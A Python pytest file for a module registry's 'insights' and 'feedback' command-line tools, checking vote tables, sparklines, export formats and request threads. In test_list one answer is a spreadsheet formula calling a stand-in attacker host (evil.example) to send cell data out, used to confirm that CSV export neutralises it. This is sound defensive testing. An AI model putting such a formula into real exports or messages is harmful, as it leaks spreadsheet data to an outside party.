"""`module-registry insights` and `feedback`: what people want and ask for, in a terminal and for programs."""

import json
import subprocess
from collections.abc import Callable
from datetime import UTC, date, datetime
from functools import partial
from pathlib import Path

import pytest
from support import OPERATOR, AnyClient, everything, vote

from service.accounts import store as accounts
from service.accounts.sessions import Caller
from service.accounts.store import Account
from service.feedback import store as feedback
from service.feedback.model import Thread
from service.history.store import RELEASED_KEY
from service.insights.representation import COLUMNS
from service.interest.maintenance import merge
from service.registry.loading.loader import load

REGISTRY = """
modules:
  - { slug: crm, category: tools, label: { fr: CRM intégré, en: Built-in CRM }, coming_soon: true, stage: building }
  - { slug: hiring, category: signals, label: { fr: Recrutement, en: Hiring }, coming_soon: true }
  - { slug: scrap, category: sources, label: { fr: Scraper, en: Scraper }, api_endpoint: /api/scrap }
  - { slug: sms, category: outreach, label: { fr: SMS, en: "=Text|messages" }, is_on_demand: true }
legacy_features: [company]
"""
TODAY = datetime.now(UTC).date()

Command = Callable[..., "subprocess.CompletedProcess[str]"]


@pytest.fixture
def insights(redis: AnyClient, file: Path, command: Command) -> Command:
    for feature, days, voters in (("crm", 40, "ab"), ("crm", 3, "cdef"), ("hiring", 0, "abc"), ("company", 9, "a")):
        vote(redis, feature, days, *voters)
    vote(redis, "crm", 0, "a", wanted=False)
    vote(redis, "scrap", (TODAY - date(2026, 1, 1)).days, "a", "b")
    redis.command("HSET", RELEASED_KEY, "scrap", int(datetime(2026, 2, 1, 12, tzinfo=UTC).timestamp() * 1000))
    accounts.add(redis, Account("ann", "active"), by=OPERATOR)
    feedback.open_thread(redis, Caller("ann"), "sms", "Please", load(file))
    return partial(command, "insights")


def test_a_terminal_has_a_bar_and_a_sparkline_for_each_feature_and_markdown_a_table(
    insights: Command, redis: AnyClient
) -> None:
    said = insights().stdout
    assert said.splitlines()[2:5] == [
        "#  feature  votes                            7 days  30 days  last 30 days                    stage     label",
        f"1  crm          5  {'█' * 24}      +3       +3  {'▃' * 26}███▇  building  Built-in CRM",
        f"2  hiring       3  {'█' * 14}                +3       +3  {'▁' * 29}█            Hiring",
    ]
    assert (
        said.partition(" Hiring\n\n")[2]
        == f"""Trending

feature  7 days  7 before  label
crm          +3         0  Built-in CRM
hiring       +3         0  Hiring

Requests

module  open  answered  activated  declined  unread  oldest unread since  label
sms        1         0          0         0       1  {TODAY}           =Text|messages

Released

module  state   votes  first vote  released    first waited  half waited  label
scrap   active      2  2026-01-01  2026-02-01  31 d          31 d         Scraper

Legacy votes

feature  votes  7 days  30 days  label
company      1       0       +1
"""
    )
    merge(redis, "hiring", "crm", by=OPERATOR)
    parts = insights("--format", "markdown").stdout.split("\n## ")
    assert parts[0].splitlines()[2:] == [
        "| # | feature | votes | 7 days | 30 days | stage | label |",
        "| ---: | --- | ---: | ---: | ---: | --- | --- |",
        "| 1 | `crm` | 6 | +4 | +4 | `building` | `Built-in CRM` |",
    ]
    merged = "| feature | into | label |\n| --- | --- | --- |\n| `hiring` | `crm` | `Hiring` |\n"
    assert (len(parts), parts[-1]) == (6, f"Merged into another module\n\n{merged}")


def test_programs_and_spreadsheets_have_the_same_values_and_looking_changes_nothing(
    insights: Command, redis: AnyClient
) -> None:
    before = everything(redis)
    coming = json.loads(insights("--format", "json").stdout)["coming_soon"]
    assert [(each["id"], each["votes"], each["change_7_days"]) for each in coming] == [("crm", 5, 3), ("hiring", 3, 3)]
    header, *rows = insights("--format", "csv").stdout.splitlines()
    assert header == ",".join(COLUMNS)
    named = ["coming_soon,crm", "coming_soon,hiring", "legacy,company", "released,scrap", "requests,sms"]
    assert [",".join(row.split(",")[:2]) for row in rows] == named
    assert everything(redis) == before


@pytest.fixture
def requests(command: Command) -> Command:
    return partial(command, "feedback")


@pytest.fixture
def threads(redis: AnyClient, file: Path) -> list[Thread]:
    """One of Alice's, and one of Zoe's, which is the later one."""
    more = "formerly: [texts] }\n  - { slug: mail, category: tools, label: { fr: A, en: B }, is_on_demand: true }"
    file.write_text(REGISTRY.replace("is_on_demand: true }", f"is_on_demand: true, {more}"), "utf-8")
    asked = {"alice": "sms", "zoe": "mail"}
    for name in asked:
        accounts.add(redis, Account(name, "active", name=name.title()), by=OPERATOR)
    opened = partial(feedback.open_thread, redis, registry=load(file))
    return [opened(Caller(name), slug, f"{slug}, please\nsoon")[0] for name, slug in asked.items()]


def test_list(requests: Command, threads: list[Thread]) -> None:
    alices, zoes = threads
    header, newest, oldest = requests("list").stdout.splitlines()
    assert header.split() == ["id", "status", "unread", "module", "account", "name", "updated", "last", "message"]
    assert newest.split()[:6] == [zoes.id, "open", "yes", "mail", "zoe", "Zoe"]
    assert newest.endswith("mail, please soon") and oldest.startswith(alices.id)
    listed = json.loads(requests("list", "--format", "json", "--module", "texts").stdout)
    assert [thread["last_message"]["text"] for thread in listed] == ["sms, please\nsoon"]
    nothing = requests("list", "--status", "declined")
    assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, "", "no requests\n")
    unknown = requests("list", "--module", "smss")
    assert (unknown.returncode, unknown.stderr) == (1, "smss is no module; did you mean sms?\n")
    requests("answer", alices.id, '=HYPERLINK("https://evil.example/"&A1)')
    assert f"{alices.id},answered,,sms,alice,Alice," in (csv := requests("list", "--format", "csv").stdout)
    assert "'=HYPERLINK" in csv, "which no spreadsheet runs"


def test_answer_show_and_close(requests: Command, threads: list[Thread]) -> None:
    thread = threads[0]
    assert requests("answer", thread.id, "Why?").stdout == f"answered {thread.id} (answered)\n"
    assert requests("answer", thread.id, "-", stdin="Tell us\nmore\n").returncode == 0
    first, *lines = requests("show", thread.id).stdout.splitlines()
    assert first == f"{thread.id}  sms  answered  alice (Alice)"
    said = ["sms, please", "soon", "Why?", "Tell us", "more"]
    assert [line for line in lines if line.startswith("    ")] == [f"    {text}" for text in said]
    assert [line.partition("UTC  ")[2] for line in lines if line.endswith(":")] == ["Alice:", "admin:", "admin:"]
    shown = json.loads(requests("show", thread.id, "--format", "json").stdout)
    assert [message["author"] for message in shown["messages"]] == ["member", "admin", "admin"]
    for status in ("activated", "declined", "open", "answered"):
        assert requests("close", thread.id, "--as", status).stdout == f"{thread.id} is {status}\n"


@pytest.mark.parametrize("message", ["", "x" * 2001, b"\xff"])
def test_a_message_that_cannot_be_said(requests: Command, threads: list[Thread], message: str | bytes) -> None:
    done = requests("answer", threads[0].id, "-", stdin=message)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("message ")
